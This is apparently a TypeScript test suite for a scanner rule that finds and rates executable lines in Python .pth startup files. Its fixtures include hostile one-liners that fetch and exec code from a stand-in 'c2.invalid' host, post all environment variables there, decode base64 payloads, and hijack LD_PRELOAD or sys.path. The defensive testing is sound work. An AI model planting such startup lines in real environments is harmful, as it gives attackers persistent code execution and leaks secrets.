// Lines of .pth files that Python runs, with what is reported of each and how bad it is.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { PythonEnvironmentArtifact } from '../../../../src/core/model/artifact.ts';
import type { Severity } from '../../../../src/core/model/severity.ts';
import { pthExecutableLine } from '../../../../src/core/rules/python-startup/pth-executable-line.ts';
import { pythonEnvironment, SITE_PACKAGES } from '../../../support/python-environment.ts';
import { ruleTest } from '../../../support/rule-test.ts';

const FOLDER = SITE_PACKAGES;

const environment = (text: string, over: Partial<PythonEnvironmentArtifact> = {}): PythonEnvironmentArtifact =>
  pythonEnvironment({ 'a.pth': text }, over);

const NSPKG =
  "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)";
const DISTUTILS =
  "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();";
const COVERAGE =
  'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START"):\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n  coverage.process_startup()\')';
const ENCODED = Buffer.from('print(1)').toString('base64');

const at = (severity: Severity, text: string, message?: RegExp) =>
  message === undefined ? { text, severity } : { text, severity, message };

ruleTest(pthExecutableLine, {
  artifact: environment,
  valid: [
    '/home/u/src/project\n./lib\n',
    '# import os; os.system("true")\n',
    'from os import path\n',
    'importlib\n',
    'import\n',
    '\n\n  \n',
    '# caf\u00e9\n../../../../src\n',
    'version https://git-lfs.github.com/spec/v1\nsize 185\n',
    'C:\\Users\\u\\src\r\n',
    'Import os\n',
  ],
  invalid: [
    at('critical', `import base64; ⟦exec(base64.b64decode('${ENCODED}'))⟧\n`, /decoded code/),
    at(
      'critical',
      `import os, sys, subprocess; ⟦subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('${ENCODED}'))"])⟧`,
    ),
    at(
      'critical',
      "import urllib.request as u; ⟦exec(u.urlopen('http://c2.invalid').read())⟧",
      /fetched from the network/,
    ),
    at('critical', "import os, requests; ⟦requests.post('http://c2.invalid', json=dict(os.environ))⟧"),
    at('high', "import os; ⟦os.system('true')⟧", /at every start, even with -I: it starts a process \(os\.system\)/),
    at('high', "import sys; ⟦exec(')1(tnirp'[::-1])⟧", /put together from pieces/),
    at('high', "import os; ⟦open('x', 'w')⟧.write('y')"),
    at('high', "import ctypes; ⟦ctypes.CDLL('x.so')⟧"),
    at('high', '# setuptools\u2028⟦import os⟧\n', /from 3\.13 on .*editors do not show/),
    at('high', "  import os; ⟦os.system('true')⟧", /from 3\.15 on/),
    at('high', 'import os; ⟦exec(os.path)⟧'),
    at('medium', 'import os; ⟦exec(os.environ.get("X", ""))⟧', /environment variable/),
    at('medium', '⟦import os; a b⟧', /could not be read to its end/),
    at('high', "import os; ⟦getattr(os, os.environ['X'])⟧()", /by a name that is not known/),
    at('medium', "import json; ⟦getattr(json, os.environ['X'])⟧()"),
    at('high', "import sys; list(⟦map(exec, ['print(1)'])⟧)", /hides what it calls/),
    at('high', "import sys; ⟦__import__('builtins').exec('print(1)')⟧"),
    at('medium', "import sys; ⟦e⟧ = exec; e('print(1)')"),
    at('high', "import os; ⟦os.environ |= {'LD_PRELOAD': 'x'}⟧"),
    at('high', "import sys; ⟦sys.path[:0]⟧ = ['/tmp/x']"),
    at('high', "import sys; ⟦sys.path += ['/dev/shm']⟧"),
    at('high', 'import builtins; ⟦builtins.open⟧ = print'),
    at('high', "import sys; ⟦exec('%c%c' % (97, 98))⟧"),
    at('high', "import sys; ⟦exec('p' + 'r' + 'i' + 'n' + 't' + '(1)')⟧"),
    at('high', "import os; ⟦dict(os.__dict__)['system']('true')⟧"),
    at('low', '⟦import my_plugin⟧'),
    at('low', '⟦import my_plugin; my_plugin.install()⟧'),
    at('low', `⟦${COVERAGE}⟧`),
    at('info', '⟦import _virtualenv⟧', /virtualenv writes/),
    at('info', `⟦${NSPKG}⟧`),
    at('info', `⟦${DISTUTILS}⟧`),
    at('info', '⟦import __editable___mine_1_0_finder; __editable___mine_1_0_finder.install()⟧'),
    at('info', '⟦import os⟧'),
  ],
});

describe('a .pth file whose name starts with a dot', () => {
  it('is high whatever it runs, and quiet where it runs nothing', () => {
    const severities = (text: string): (string | undefined)[] =>
      [...pthExecutableLine.check(pythonEnvironment({ '.a.pth': text }))].map((match) => match.severity);
    assert.deepEqual(severities('import cover\n'), ['high']);
    assert.deepEqual(severities(`${DISTUTILS}\n`), ['high']);
    assert.deepEqual(severities('./src\n# import os\n'), []);
  });
});

describe('pth-executable-line', () => {
  const worst = (text: string): string => {
    const order = ['info', 'low', 'medium', 'high', 'critical'];
    return (
      [...pthExecutableLine.check(environment(text))]
        .map((match) => match.severity ?? 'low')
        .sort((a, b) => order.indexOf(b) - order.indexOf(a))[0] ?? 'none'
    );
  };

  it('takes a known line only whole', () => {
    assert.equal(worst(`${DISTUTILS} os.system('true')`), 'high');
    assert.equal(worst(NSPKG.replace("('google',)", "(__import__('os').system('true'),)")), 'high');
    assert.notEqual(worst(NSPKG.replace("('google', types", "('other', types")), 'info');
    assert.equal(worst('import __editable___mine_1_0_finder; __editable___other_1_0_finder.install()'), 'low');
  });

  it('names the owner, which clears nothing', () => {
    const path = `${FOLDER}/a.pth`;
    const owned = (unchanged: boolean) =>
      environment("import os; os.system('true')", { owners: { [path]: { distribution: 'mine 1.0', unchanged } } });
    const [kept] = pthExecutableLine.check(owned(true));
    assert.equal(kept?.severity, 'high');
    assert.match(kept?.message ?? '', /Installed by mine 1\.0\.$/);
    const [changed] = pthExecutableLine.check(owned(false));
    assert.match(changed?.message ?? '', /changed since\.$/);
  });

  it('reports each line, and leaves other hooks to other rules', () => {
    const hooks = [
      { path: `${FOLDER}/a.pth`, text: 'import a\nb\nimport c\n' },
      { path: `${FOLDER}/sitecustomize.py`, text: 'import os' },
    ];
    const matches = [...pthExecutableLine.check(environment('', { hooks }))];
    assert.deepEqual(
      matches.map((match) => match.member),
      [`${FOLDER}/a.pth`, `${FOLDER}/a.pth`],
    );
  });

  it('reports the bad line first, whatever stands before it', () => {
    const [first] = pthExecutableLine.check(environment(`${'import os\n'.repeat(500)}import os; os.system('true')\n`));
    assert.equal(first?.severity, 'high');
  });

  it('reports equal lines once, and how often they stand there', () => {
    const matches = [...pthExecutableLine.check(environment('import a\n'.repeat(3)))];
    assert.deepEqual(
      matches.map(({ evidence }) => evidence?.['times']),
      [3],
    );
  });

  const EVIL = `import base64; exec(base64.b64decode('${ENCODED}'))`;
  const many = (line: (index: number) => string, count: number): string =>
    Array.from({ length: count }, (_, index) => `${line(index)}\n`).join('');

  for (const [name, crowd] of [
    ['equal import lines', 'import a\n'.repeat(200_000)],
    ['comments and blank lines', '#\n\n'.repeat(200_000)],
    ['path lines', 'a\n'.repeat(200_000)],
    ['different import lines', many((index) => `import a${index}`, 60_000)],
  ] as const) {
    it(`finds the bad line behind a crowd of ${name}, in the same file and in the next`, () => {
      assert.equal(worst(`${crowd}${EVIL}\n`), 'critical');
      const hooks = [
        { path: `${FOLDER}/a.pth`, text: crowd },
        { path: `${FOLDER}/b.pth`, text: EVIL },
      ];
      const [first] = pthExecutableLine.check(environment('', { hooks }));
      assert.equal(first?.severity, 'critical');
    });
  }

  it('stops at a bound of work, and what is not read is high', () => {
    const heavy = (index: number): string => `import os; x${index} = [[a for b in range(9000)] for c in range(9000)]`;
    const matches = [...pthExecutableLine.check(environment(many(heavy, 200)))];
    assert.ok(matches.length < 30);
    assert.equal(matches[0]?.severity, 'high');
    assert.match(matches[0]?.message ?? '', /more lines than are read/);
  });

  it('stops at a bound of lines, and what is not read is high', () => {
    const text = many((index) => `import a; a.b${index}`, 60_000);
    const [first] = pthExecutableLine.check(environment(text));
    assert.equal(first?.severity, 'high');
    // A baseline that holds it must not hold for other content.
    assert.equal(first?.identity, text);
  });

  it('is another finding when what the risky call works on has changed elsewhere in the line', () => {
    const identityOf = (command: string): string | undefined =>
      [...pthExecutableLine.check(environment(`import os; x = '${command}'; os.system(x)`))][0]?.identity;
    assert.equal(identityOf('true'), "import os; x = 'true'; os.system(x)");
    assert.notEqual(identityOf('true'), identityOf('false'));
  });
});
